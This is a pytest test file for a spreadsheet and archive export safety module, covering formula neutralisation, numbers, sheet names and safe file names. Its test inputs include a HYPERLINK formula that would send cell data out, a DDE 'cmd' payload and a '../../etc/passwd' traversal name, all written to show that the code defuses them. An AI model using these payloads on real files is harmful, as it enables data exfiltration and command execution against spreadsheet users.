"""Spreadsheet safety: formula neutralisation, numbers, XML-illegal characters, sheet names and
archive entry names."""

from __future__ import annotations

import pytest

from server.exports.safety import (
    SHEET_NAME_MAX,
    SheetNames,
    central_file_name,
    is_number,
    neutralize,
    neutralize_cell,
    safe_file_name,
    xlsx_number,
    xlsx_text,
)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
                                   "%0A", '=HYPERLINK("http://x/?"&A2)'])
def test_neutralize__formula_starts_get_a_quote(value):
    assert neutralize(value) == "'" + value
    assert neutralize_cell(value, "text") == "'" + value


@pytest.mark.parametrize("value", ["", "plain", "'already", " =1", "1=1", "uuid:-x"])
def test_neutralize__other_text_is_untouched(value):
    assert neutralize(value) == value


@pytest.mark.parametrize("value", ["-5", "+5", "-1.5e3", "-.5", "1.", "-0.000001E-7"])
def test_numbers__in_numeric_columns_stay_numbers(value):
    assert is_number(value)
    assert neutralize_cell(value, "int") == value
    assert neutralize_cell(value, "decimal") == value
    assert neutralize_cell(value, "text") == "'" + value if value[0] in "-+" else value


@pytest.mark.parametrize("value", ["-nan", "-inf", "-1_000", "- 1", "-1,5", "-1+1", "=1"])
def test_numbers__lookalikes_in_numeric_columns_are_neutralised(value):
    assert not is_number(value)
    assert neutralize_cell(value, "decimal") == "'" + value


def test_geo_text__coordinates_stay_and_anything_else_is_neutralised():
    assert neutralize_cell("-6.8 39.2 0 0;-6.9 39.3 0 0", "geo") == "-6.8 39.2 0 0;-6.9 39.3 0 0"
    assert neutralize_cell("-1+cmd|'/c calc'!A0", "geo") == "'-1+cmd|'/c calc'!A0"


def test_counts_are_never_touched():
    assert neutralize_cell(-1, "count") == -1


def test_xlsx_number__ints_floats_and_what_is_not_one():
    assert xlsx_number("-5", integer=True) == -5
    assert xlsx_number("-1.5e3", integer=False) == -1500.0
    assert xlsx_number("1.5", integer=True) == 1.5
    assert xlsx_number("9" * 20, integer=True) is None  # beyond a double: text
    assert xlsx_number("1e999", integer=False) is None
    assert xlsx_number("abc", integer=False) is None


def test_xlsx_text__strips_xml_illegal_characters_and_caps_length():
    assert xlsx_text("a\x00b\x01\x0bc\x1f\ufffe\ud800d\te\nf") == "abcd\te\nf"
    assert xlsx_text("=1") == "'=1"
    assert len(xlsx_text("x" * 40_000)) == 32_767


def test_sheet_names__valid_unique_and_short():
    names = SheetNames()
    assert names.claim("roster") == "roster"
    assert names.claim("ROSTER") == "ROSTER (2)"
    assert names.claim("a[b]:c*d?e/f\\g") == "a_b__c_d_e_f_g"
    assert names.claim("History") == "History_"
    assert names.claim("'quoted'") == "quoted"
    long = names.claim("x" * 40)
    assert long == "x" * SHEET_NAME_MAX
    assert names.claim("x" * 40) == "x" * 27 + " (2)"
    assert names.claim("x" * 40, " (2)") == "x" * 23 + " (2) (2)"  # taken: numbered again
    assert names.claim("") == "Sheet"


@pytest.mark.parametrize(("name", "safe"), [
    ("photo.jpg", "photo.jpg"),
    ("uuid:abc", "uuid%3Aabc"),
    ("../../etc/passwd", "%2E.%2F..%2Fetc%2Fpasswd"),
    ("a\\b", "a%5Cb"),
    ("a\x00b", "a%00b"),
    ("CON", "%43ON"),
    ("nul.txt", "%6Eul.txt"),
    (".htaccess", "%2Ehtaccess"),
    ("trailing. ", "trailing.%20"),
    ("100%", "100%25"),
    ("ñandú ارض 😀.jpg", "ñandú ارض %F0%9F%98%80.jpg"),
    ("", "%00"),
])
def test_safe_file_name__examples(name, safe):
    assert safe_file_name(name) == safe


def test_safe_file_name__is_injective_and_never_a_path():
    names = ["a:b", "a_b", "a%3Ab", "a/b", "a\\b", "..", ".", "CON", "%43ON", "e\u0301",
             "\u00e9", "x" * 300, "x" * 299 + "y", "x" * 300 + ".jpg"]
    safe = [safe_file_name(n) for n in names]
    assert len(set(safe)) == len(names)
    for s in safe:
        assert "/" not in s and "\\" not in s and s not in (".", "..")
        assert len(s.encode()) <= 255


def test_central_file_name__drops_what_file_systems_refuse():
    assert central_file_name('a/b\\c?d<e>f:g*h|i"j.csv') == "abcdefghij.csv"
    assert central_file_name("name. ") == "name"
    assert central_file_name("..") == "_"
    assert central_file_name("CON") == "_"
